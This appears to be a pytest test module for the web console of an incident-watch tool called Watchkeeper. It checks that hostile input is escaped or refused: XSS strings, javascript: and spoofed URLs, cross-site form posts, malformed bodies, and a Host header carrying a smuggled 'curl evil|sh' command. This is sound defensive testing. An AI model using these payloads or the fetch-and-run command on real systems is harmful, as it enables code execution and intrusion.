"""Hostile texts, addresses, forms and headers: what the console shows as data, and what it refuses."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.model.document import Document
from tests.timeline import Timeline
from tests.unit.test_console import OURS, Browser, FakeWatch, check_page, outage, path_of
from tests.unit.test_console_notes import explained
from watchkeeper.console.guard import HEADERS

EVIL = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>&amp;\u202e\u0000\u2028"


@pytest.fixture
def watch() -> FakeWatch:
    return FakeWatch(outage())


@pytest.fixture
def browser(watch: FakeWatch) -> Browser:
    return Browser(watch)


def spoiled(document: Document, text: str) -> Document:
    """Every text of an incident's document that others may choose, replaced."""
    names = {
        "title", "name", "service", "environment", "cluster", "version", "author", "url", "actor", "reason",
        "detail", "summary", "hint", "answer", "acknowledged_by", "receiver", "text", "subject", "flags",
        "model", "prompt", "shared", "ending", "runbook", "done_when", "action", "looked_at", "asked",
    }  # fmt: skip

    def walk(value: Any, name: str) -> Any:
        if isinstance(value, dict):
            found = {key: walk(item, "title" if name == "labels" else key) for key, item in value.items()}
            return found | ({"author": value["author"]} if "lines" in value else {})
        if isinstance(value, list | tuple):
            return [walk(item, name) for item in value]
        return text if isinstance(value, str) and name in names else value

    return dict(walk(document, ""))


def test_the_policy_lets_nothing_in() -> None:
    policy = dict(part.strip().split(" ", 1) for part in HEADERS["Content-Security-Policy"].split(";"))
    assert policy == {
        "default-src": "'none'", "style-src": "'self'", "script-src": "'self'", "connect-src": "'self'",
        "img-src": "'self' data:", "form-action": "'self'", "base-uri": "'none'", "frame-ancestors": "'none'",
    }  # fmt: skip
    assert HEADERS["X-Content-Type-Options"] == "nosniff"


@pytest.fixture(scope="module")
def structure() -> Callable[[str], list[tuple[str, tuple[str, ...]]]]:
    """The elements of the list and the incident page when every foreign text is the given one."""
    said = ["plain"]
    watch = FakeWatch(outage(), lambda document: spoiled(explained(document), said[0]))
    browser = Browser(watch)

    def elements(text: str) -> list[tuple[str, tuple[str, ...]]]:
        said[0] = text
        pages = [browser.get(path).text for path in ("/", path_of(watch))]
        assert not set("".join(pages)) & set("\u0000\u0007\u202e\u2028\u2066\ud800")
        return [element for html in pages for element in check_page(html).tags]

    return elements


def test_hostile_texts_are_shown_and_do_nothing() -> None:
    watch = FakeWatch(outage(), lambda document: spoiled(explained(document), EVIL))
    html = Browser(watch).get(path_of(watch)).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>" not in html
    assert html.count("<script") == 1
    assert "<img" not in html


@given(text=st.text(st.characters(), min_size=1, max_size=40))
def test_no_text_changes_the_structure_of_a_page(
    structure: Callable[[str], list[tuple[str, tuple[str, ...]]]], text: str
) -> None:
    assert structure(f"x{text}") == structure("plain")


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("https://runbooks.example/a?b=1&c=2", True),
        ("http://10.0.0.7:9090/graph", True),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("//evil.example/", False),
        ("https://good.example@evil.example/", False),
        ("https:///nowhere", False),
        ("https://evil.example/\u202ecod", False),
        ("https://evil.example/\nSet-Cookie: a=b", False),
        ("https://[broken", False),
        (" https://evil.example", False),
    ],
)
def test_only_plain_web_addresses_become_links(url: str, linked: bool) -> None:
    watch = FakeWatch(
        outage(),
        lambda document: document | {"changes": [one | {"url": url} for one in document["changes"]]},
    )
    watch.raw = {"labels": {"alertname": EVIL}, "annotations": {"runbook_url": url}, "generatorURL": url}
    first = watch.incident(watch.only)["alerts"][0]
    browser = Browser(watch)
    for path in (path_of(watch), f"{path_of(watch)}/alerts/{first['line']}/{first['index']}"):
        page = check_page(browser.get(path).text)
        outside = [a for tag, a in page.attributes if tag == "a" and urlsplit(a["href"]).scheme]
        assert bool(outside) is linked
        assert all(a["rel"] == "noopener noreferrer nofollow" and a["href"] == url for a in outside)


@pytest.mark.parametrize(
    "raw", [None, [1, 2], "text", {"labels": [], "annotations": 3}, {"labels": {"a": None}}]
)
def test_an_alert_of_any_form_can_be_looked_at(watch: FakeWatch, browser: Browser, raw: Any) -> None:
    watch.raw = raw
    first = watch.incident(watch.only)["alerts"][0]
    answer = browser.get(f"{path_of(watch)}/alerts/{first['line']}/{first['index']}")
    assert answer.status_code == 200
    check_page(answer.text)


@pytest.mark.parametrize("place", ["999/0", "1/99999999999999999999999", "2/7"])
def test_an_alert_of_another_incident_is_not_shown_under_this_one(
    watch: FakeWatch, browser: Browser, place: str
) -> None:
    assert browser.get(f"{path_of(watch)}/alerts/{place}").status_code == 404


@pytest.mark.parametrize(
    "headers",
    [
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"sec-fetch-site": "cross-site", "origin": "http://watch.example:8080"},
        {"origin": "http://evil.example"},
        {"origin": "http://watch.example"},
        {"origin": "https://watch.example:8081"},
        {"origin": "null"},
        {"origin": "http://[broken"},
    ],
)
def test_a_form_of_another_site_is_refused(
    watch: FakeWatch, browser: Browser, headers: dict[str, str]
) -> None:
    answer = browser.post(f"{path_of(watch)}/transitions", {"to": "resolved", "actor": "mallory"}, headers)
    assert answer.status_code == 403
    assert "was not sent by a page of Watchkeeper" in check_page(answer.text).text
    assert watch.incident(watch.only)["status"] == "triggered"


@pytest.mark.parametrize(
    ("body", "kind", "status"),
    [
        (b"to=resolved", "application/x-www-form-urlencoded", 400),
        (b"to=resolved&actor=%20%FF%00", "application/x-www-form-urlencoded; charset=utf-8", 303),
        (b"{}", "application/json", 400),
        (b"to=" + b"a" * 20_000, "application/x-www-form-urlencoded", 400),
        (b"&".join(b"f%d=1" % n for n in range(50)), "application/x-www-form-urlencoded", 400),
        (b"to=nonsense&actor=ana", "application/x-www-form-urlencoded", 400),
    ],
)
def test_forms_of_any_form_get_an_answer(
    watch: FakeWatch, browser: Browser, body: bytes, kind: str, status: int
) -> None:
    answer = browser.post(f"{path_of(watch)}/transitions", body, OURS | {"content-type": kind})
    assert answer.status_code == status
    if status != 303:
        check_page(answer.text)


def test_a_strange_host_header_stays_out_of_commands() -> None:
    html = Browser(FakeWatch(Timeline(None))).get("/", host="x';curl evil|sh;'").text
    assert "evil" not in html
    assert "http://127.0.0.1:8080/api/v2/alerts" in html
